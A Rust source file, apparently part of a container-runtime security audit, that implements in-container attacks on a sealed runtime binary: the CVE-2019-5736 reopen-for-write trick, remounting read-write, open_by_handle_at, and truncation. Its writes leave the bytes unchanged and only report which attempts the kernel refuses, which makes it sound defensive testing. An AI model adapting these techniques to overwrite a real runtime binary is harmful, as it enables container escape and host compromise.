//! The container side of the audit: the payload stage 2 execs, holding an O_PATH fd to
//! the sealed binary on fd 4 (as CVE-2019-5736's exploit holds /proc/self/exe), with the
//! report pipe on fd 3. Each attack writes one line: `attack ok <dev>:<ino>` when its
//! write went through (to the file with that inode), or `attack <ERRNO> <detail>`.
//! (Stage 2's own checks, write-running and write-parent-exe, need no payload.)

use crate::audit::AttackId;
use rustix::fd::{AsFd, BorrowedFd, OwnedFd};
use rustix::fs::{Mode, OFlags};
use rustix::io::Errno;
use std::time::{Duration, Instant};
use strategies::errno_name;

use crate::workload::stage2_fds::{HELD_FD, REPORT_FD};
const HELD: &str = "/proc/self/fd/4";

/// How long to wait for the runtime binary to stop running (ETXTBSY), as the exploit
/// loops until the runtime has exited.
const PATIENCE: Duration = Duration::from_secs(3);

pub fn run(attack: &str, arg: Option<&str>) -> i32 {
    let result = match attack.parse() {
        Ok(AttackId::ReopenAfterExit) => reopen_and_rewrite(),
        Ok(AttackId::RemountRw) => remount_rw(),
        Ok(AttackId::OpenByHandle) => open_by_handle(arg.unwrap_or("/")),
        Ok(AttackId::TruncateSealed) => truncate_sealed(),
        // Checked by stage 2 itself before it execs this payload.
        Ok(AttackId::WriteRunning | AttackId::WriteParentExe | AttackId::SharesPageCache)
        | Err(_) => return 0,
    };
    let line = match result {
        Ok(Some(fd)) => {
            let st = rustix::fs::fstat(&fd).ok();
            format!(
                "attack ok {}",
                st.map(|s| format!("{}:{}", s.st_dev, s.st_ino))
                    .unwrap_or_default()
            )
        }
        Ok(None) => "attack none".to_string(),
        Err(Refused { errno, detail }) => format!("attack {} {detail}", errno_name(errno)),
    };
    // SAFETY: the audit placed the report pipe on fd 3 for exactly this line.
    let report = unsafe { BorrowedFd::borrow_raw(REPORT_FD) };
    let _ = rustix::io::write(report, format!("{line}\n").as_bytes());
    0
}

/// The kernel's answer to an attack's step, reported on the attack's line.
struct Refused {
    errno: Errno,
    detail: String,
}

type Attempt = Result<Option<OwnedFd>, Refused>;

fn step<T>(what: &str, r: rustix::io::Result<T>) -> Result<T, Refused> {
    r.map_err(|errno| Refused {
        errno,
        detail: what.to_string(),
    })
}

/// Open for writing, waiting out ETXTBSY while the runtime binary still runs somewhere.
fn open_rw_patiently(
    mut open: impl FnMut() -> rustix::io::Result<OwnedFd>,
) -> rustix::io::Result<OwnedFd> {
    let start = Instant::now();
    loop {
        match open() {
            Err(Errno::TXTBSY) if start.elapsed() < PATIENCE => {
                std::thread::sleep(Duration::from_millis(2))
            }
            other => return other,
        }
    }
}

/// Write the first byte back as it is: proof of a write that leaves the bytes unchanged.
fn rewrite_first_byte(fd: &OwnedFd) -> rustix::io::Result<()> {
    let mut byte = [0u8];
    rustix::io::pread(fd, &mut byte, 0)?;
    rustix::io::pwrite(fd, &byte, 0).map(drop)
}

fn reopen() -> rustix::io::Result<OwnedFd> {
    open_rw_patiently(|| rustix::fs::open(HELD, OFlags::RDWR | OFlags::CLOEXEC, Mode::empty()))
}

/// CVE-2019-5736: reopen the held fd for writing once the runtime has exited.
fn reopen_and_rewrite() -> Attempt {
    let fd = step("open(/proc/self/fd/N, O_RDWR)", reopen())?;
    step("write", rewrite_first_byte(&fd))?;
    Ok(Some(fd))
}

/// With CAP_SYS_ADMIN: clear RDONLY on the mount behind the held fd, both ways, then write.
fn remount_rw() -> Attempt {
    // SAFETY: fd 4 is the held O_PATH fd stage 2 left for this payload.
    let held = unsafe { BorrowedFd::borrow_raw(HELD_FD) };
    let setattr = strategies::sys::mount_setattr(
        held.as_fd(),
        rustix::mount::MountAttrFlags::empty(),
        rustix::mount::MountAttrFlags::MOUNT_ATTR_RDONLY,
    );
    let remount = rustix::mount::mount_remount(HELD, rustix::mount::MountFlags::BIND, c"");
    let detail = format!(
        "(mount_setattr clear RDONLY: {}; mount MS_REMOUNT|MS_BIND: {})",
        setattr.map_or_else(|e| errno_name(e).to_string(), |()| "ok".into()),
        remount.map_or_else(|e| errno_name(e).to_string(), |()| "ok".into())
    );
    let fd = step(&format!("open O_RDWR after remounting {detail}"), reopen())?;
    step(
        &format!("write after remounting {detail}"),
        rewrite_first_byte(&fd),
    )?;
    Ok(Some(fd))
}

/// With CAP_DAC_READ_SEARCH: turn the held fd into a file handle and open that handle
/// through `mount_path`, a writable mount of the runtime binary's filesystem.
fn open_by_handle(mount_path: &str) -> Attempt {
    use std::os::fd::{AsRawFd, FromRawFd};
    #[repr(C)]
    struct Handle {
        bytes: u32,
        kind: i32,
        data: [u8; 128],
    }
    let mut handle = Handle {
        bytes: 128,
        kind: 0,
        data: [0; 128],
    };
    let mut mount_id = 0;
    // SAFETY: handle points to a file_handle with room for MAX_HANDLE_SZ bytes.
    let r = unsafe {
        libc::name_to_handle_at(
            HELD_FD,
            c"".as_ptr(),
            &mut handle as *mut Handle as *mut libc::file_handle,
            &mut mount_id,
            libc::AT_EMPTY_PATH,
        )
    };
    if r != 0 {
        return step("name_to_handle_at", Err(last_errno()));
    }
    let mount = step(
        "open the writable mount",
        rustix::fs::open(
            mount_path,
            OFlags::RDONLY | OFlags::DIRECTORY | OFlags::CLOEXEC,
            Mode::empty(),
        ),
    )?;
    let fd = open_rw_patiently(|| {
        // SAFETY: a handle filled in by name_to_handle_at, and a live directory fd.
        let fd = unsafe {
            libc::open_by_handle_at(
                mount.as_raw_fd(),
                &mut handle as *mut Handle as *mut libc::file_handle,
                libc::O_RDWR | libc::O_CLOEXEC,
            )
        };
        if fd < 0 {
            Err(last_errno())
        } else {
            // SAFETY: a new fd owned by nobody else.
            Ok(unsafe { OwnedFd::from_raw_fd(fd) })
        }
    })
    .map_err(|errno| Refused {
        errno,
        detail: format!("open_by_handle_at through {mount_path}"),
    })?;
    step("write", rewrite_first_byte(&fd))?;
    Ok(Some(fd))
}

/// Change the sealed object's size or bytes: shrink, grow and write. Any that succeeds
/// counts; the audit restores the decoy afterwards.
fn truncate_sealed() -> Attempt {
    let fd = step("open(/proc/self/fd/N, O_RDWR)", reopen())?;
    let size = step("fstat", rustix::fs::fstat(&fd))?.st_size as u64;
    let shrink = rustix::fs::ftruncate(&fd, size.saturating_sub(1));
    let grow = rustix::fs::fallocate(&fd, rustix::fs::FallocateFlags::empty(), size, 4096);
    let write = rewrite_first_byte(&fd);
    match (shrink, grow, write) {
        (Err(a), Err(b), Err(c)) => Err(Refused {
            errno: a,
            detail: format!(
                "ftruncate {}, fallocate {}, write {}",
                errno_name(a),
                errno_name(b),
                errno_name(c)
            ),
        }),
        _ => Ok(Some(fd)),
    }
}

fn last_errno() -> Errno {
    Errno::from_raw_os_error(std::io::Error::last_os_error().raw_os_error().unwrap_or(0))
}
